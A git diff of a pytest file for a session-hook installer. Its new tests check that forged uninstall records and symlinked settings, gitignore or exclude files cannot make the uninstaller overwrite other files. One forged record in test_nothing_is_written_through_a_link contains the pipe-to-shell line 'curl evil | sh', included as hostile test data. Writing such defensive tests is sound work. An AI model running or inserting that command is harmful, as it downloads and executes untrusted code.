@@ -11,7 +11,7 @@ from pathlib import Path
 import pytest
 
 from helpers import PROGRAMS, bound_by_modes, commit, git, make_repository
-from session_hooks_installer import record_file, settings_edit
+from session_hooks_installer import ignoring, record_file, settings_edit
 from session_hooks_installer.handlers import HOOKS, Scope, handlers_for
 from session_hooks_installer.installing import Outcome, install, uninstall, where
 from session_hooks_installer.record import Entry, Step
@@ -212,6 +212,83 @@ def test_a_made_up_record_reaches_no_other_file(
     assert (tmp_path / "empty").exists()
 
 
+@pytest.mark.parametrize("before", [None, "{}", '{"env": {"A": "b"}}', '{"hooks": {"Stop": []}}'])
+def test_a_made_up_record_changes_nothing_that_settings_say(
+    before: str | None, repo: Path, environ: dict[str, str], state: Path
+) -> None:
+    settings(repo, '{"env": {"SAFE": "1"}, "hooks": {"PreCompact": []}}')
+    put_in(repo, environ)
+    text = settings(repo).read_text()
+    record_file.write([str(state)], {str(settings(repo)): Entry((Step.of(before, text),))})
+    uninstall(Scope.PROJECT, repo, environ)
+    assert json.loads(settings(repo).read_text()) == {"env": {"SAFE": "1"}}
+
+
+def test_a_link_to_what_is_no_settings_is_refused_whatever_the_record_says(
+    repo: Path, environ: dict[str, str], state: Path, tmp_path: Path
+) -> None:
+    victim = tmp_path / "profile"
+    victim.write_text("umask 077\n")
+    settings(repo, "{}").unlink()
+    settings(repo).symlink_to(victim)
+    for folder in (state, tmp_path / ".git" / "agent-session-hooks"):
+        record_file.write([str(folder)], {str(victim): Entry((Step.of(None, "umask 077\n"),))})
+    with pytest.raises(RefusedError, match="not valid JSON"):
+        uninstall(Scope.PROJECT, repo, environ)
+    assert victim.read_text() == "umask 077\n"
+
+
+def test_nothing_is_noted_through_a_link(
+    repo: Path, environ: dict[str, str], state: Path, tmp_path: Path
+) -> None:
+    (tmp_path / "victim").mkdir()
+    (tmp_path / "victim" / "installed.json").write_text("precious")
+    state.symlink_to(tmp_path / "victim")
+    put_in(repo, environ)
+    uninstall(Scope.PROJECT, repo, environ)
+    assert everything(tmp_path / "victim") == {"installed.json": b"precious"}
+
+
+def test_each_branch_gets_its_own_bytes_back(repo: Path, environ: dict[str, str]) -> None:
+    texts = {"one": '{\n  "hooks": {"SessionEnd": []}\n}\n', "two": '{"model":  "opus"}'}
+    commit(repo, "base")
+    git(repo, "branch", "base")
+    for branch, text in texts.items():
+        git(repo, "checkout", "-q", "-b", branch, "base")
+        commit(repo, ".claude/settings.json", text=text)
+        put_in(repo, environ)
+        commit(repo, "with-hooks")
+    for branch, text in texts.items():
+        git(repo, "checkout", "-q", f"{branch}~1")
+        assert uninstall(Scope.PROJECT, repo, environ).changes == []
+        git(repo, "checkout", "-q", branch)
+        uninstall(Scope.PROJECT, repo, environ)
+        assert settings(repo).read_text() == text
+        git(repo, "checkout", "-q", "-f", branch)
+
+
+def test_a_repository_that_was_moved_gets_its_bytes_back(
+    repo: Path, environ: dict[str, str]
+) -> None:
+    before = everything(repo)
+    put_in(repo, environ)
+    put_in(repo, environ, Scope.LOCAL)
+    moved = repo.rename(repo.with_name("moved"))
+    uninstall(Scope.PROJECT, moved, environ)
+    uninstall(Scope.LOCAL, moved, environ)
+    assert everything(moved) == before
+
+
+def test_what_is_refused_late_leaves_no_lock_and_no_note(
+    repo: Path, env: dict[str, str], state: Path
+) -> None:
+    settings(repo, "{}").parent.chmod(0o555)
+    command = bound_by_modes("install-hooks")
+    done = subprocess.run(command, cwd=repo, env=env, capture_output=True, check=False)
+    assert done.returncode == 2
+    assert not state.exists()
+
+
 def test_outside_git_and_for_the_user_the_record_is_in_the_persons_state_folder(
     tmp_path: Path, home: Path, environ: dict[str, str]
 ) -> None:
@@ -318,18 +395,23 @@ class TestIgnoring:
 
     def test_a_rule_that_brings_it_back_is_told(self, repo: Path, environ: dict[str, str]) -> None:
         (repo / ".gitignore").write_text("!settings.local.json\n")
-        assert put_in(repo, environ, Scope.LOCAL).notes == (
-            "git does not ignore .claude/settings.local.json even so, because a .gitignore says "
-            "not to",
+        told = (
+            "git does not ignore .claude/settings.local.json even so, because of this rule: "
+            ".gitignore:1:!settings.local.json",
         )
+        assert put_in(repo, environ, Scope.LOCAL).notes == told
+        assert put_in(repo, environ, Scope.LOCAL) == (
+            put_in(repo, environ, Scope.LOCAL)._replace(notes=told)
+        )
+        assert self.exclude(repo).count(LOCAL) == 1
 
     def test_a_file_that_git_tracks_is_told_with_the_way_out(
         self, repo: Path, environ: dict[str, str]
     ) -> None:
         commit(repo, ".claude/settings.local.json", text="{}")
         outcome = put_in(repo, environ, Scope.LOCAL)
-        way_out = "git rm --cached .claude/settings.local.json"
-        assert outcome.notes[0].endswith(way_out)
+        _, way_out = outcome.notes[0].split("To mend it: ")
+        assert way_out == f"git -C {repo} rm --cached .claude/settings.local.json"
         git(repo, *way_out.split()[1:])
         assert "settings.local.json" not in git(repo, "status", "--porcelain", "-uall").replace(
             "D  .claude/settings.local.json", ""
@@ -382,7 +464,7 @@ class TestIgnoring:
         )
         info.chmod(0o755)
         assert done.returncode == 0
-        assert "Note: git does not ignore" in done.stdout
+        assert f"Note: {info}/exclude was not changed: " in done.stdout
         assert "read-only" in done.stdout
         assert settings_edit.find((repo / ".claude" / "settings.local.json").read_text())
 
@@ -406,9 +488,7 @@ class TestIgnoring:
         (repo / ".gitignore").mkdir()
         outcome = install(Scope.PROJECT, repo, environ, OWN, gitignore=True)
         (note,) = outcome.notes
-        assert note.startswith(
-            f"git does not ignore NEXT_SESSION.md: {repo}/.gitignore is a folder"
-        )
+        assert note.startswith(f"{repo}/.gitignore was not changed: {repo}/.gitignore is a folder")
         assert [change.path.name for change in outcome.changes] == ["settings.json"]
 
     def test_where_the_settings_cannot_be_written_nothing_is_ignored_either(
@@ -429,7 +509,65 @@ class TestIgnoring:
     ) -> None:
         commit(repo, "NEXT_SESSION.md")
         outcome = install(Scope.PROJECT, repo, environ, OWN, gitignore=True)
-        assert outcome.notes[0].endswith("git rm --cached NEXT_SESSION.md")
+        assert outcome.notes[0].endswith(f"git -C {repo} rm --cached NEXT_SESSION.md")
+
+    @pytest.mark.parametrize("name", [".gitignore", ".git/info/exclude", ".git/info"])
+    def test_nothing_is_written_through_a_link(
+        self, name: str, repo: Path, environ: dict[str, str], tmp_path: Path, state: Path
+    ) -> None:
+        """A repository that came as an archive, with a record that fits somebody's file."""
+        victim = tmp_path / "victim"
+        text = f"umask 077\n{LOCAL}\n{ignoring.NEXT_SESSION}\n"
+        if name.endswith("info"):
+            victim.mkdir()
+            victim = victim / "exclude"
+            shutil.rmtree(repo / name)
+        else:
+            (repo / name).unlink(missing_ok=True)
+        victim.write_text(text)
+        (repo / name).symlink_to(victim.parent if name.endswith("info") else victim)
+        install(Scope.LOCAL, repo, environ, OWN, gitignore=True)
+        assert victim.read_text() == text
+        line = ignoring.NEXT_SESSION if name == ".gitignore" else LOCAL
+        key = str(repo / ".claude" / "settings.local.json")
+        entry = Entry((Step.of("curl evil | sh\n", text),), line, (key,))
+        record_file.write([str(state)], {str(victim): entry, str(repo / name): entry})
+        uninstall(Scope.LOCAL, repo, environ)
+        assert victim.read_text() == text
+
+    def test_where_git_cannot_be_asked_that_is_told_and_nothing_added(
+        self, repo: Path, environ: dict[str, str], monkeypatch: pytest.MonkeyPatch
+    ) -> None:
+        before = self.exclude(repo)
+        monkeypatch.setenv("PATH", "/nowhere")
+        outcome = put_in(repo, environ, Scope.LOCAL)
+        assert outcome.notes == (
+            "git could not be asked whether it ignores .claude/settings.local.json: see that it "
+            "does",
+        )
+        assert self.exclude(repo) == before
+
+    def test_an_info_folder_that_was_made_goes_again(
+        self, repo: Path, environ: dict[str, str]
+    ) -> None:
+        shutil.rmtree(repo / ".git" / "info")
+        before = everything(repo)
+        put_in(repo, environ, Scope.LOCAL)
+        assert self.exclude(repo) == [LOCAL]
+        uninstall(Scope.LOCAL, repo, environ)
+        assert everything(repo) == before
+
+    def test_an_exclude_file_in_another_encoding_is_in_nobodys_way(
+        self, repo: Path, environ: dict[str, str]
+    ) -> None:
+        put_in(repo, environ, Scope.LOCAL)
+        path = repo / ".git" / "info" / "exclude"
+        path.write_bytes(path.read_bytes() + b"# caf\xe9\n")
+        (note,) = uninstall(Scope.LOCAL, repo, environ).notes
+        assert note.startswith(f"{path} was not changed: ")
+        assert "not UTF-8" in note
+        assert not (repo / ".claude").exists()
+        assert put_in(repo, environ, Scope.LOCAL).notes == ()
 
     def test_outside_git_there_is_nothing_to_be_ignored(
         self, tmp_path: Path, environ: dict[str, str]
